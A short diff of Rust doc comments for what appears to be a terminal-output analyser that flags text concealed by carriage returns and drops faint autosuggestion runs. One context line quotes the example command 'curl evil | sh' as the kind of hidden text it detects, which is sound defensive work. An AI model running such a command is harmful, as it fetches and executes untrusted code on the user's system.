@@ -77,8 +77,8 @@
 //!   after a carriage return or a jump (`curl evil | sh\recho hello world`). Raises
 //!   `concealed-text`.
 //! - Runs that changed no letter (counters, percentages, progress bars, spinners) are not
-//!   kept, and raise nothing. Runs whose letters were all faint or grey (a shell's
-//!   autosuggestion, erased as the user types on) are kept and raise nothing. A run whose
+//!   kept, and raise nothing; nor are runs whose letters were all faint or grey (a shell's
+//!   autosuggestion, erased as the user types on: not what the user typed). A run whose
 //!   letters are those of the line's previous run of the same kind (a status line redrawn
 //!   in place) is kept once.
 //!
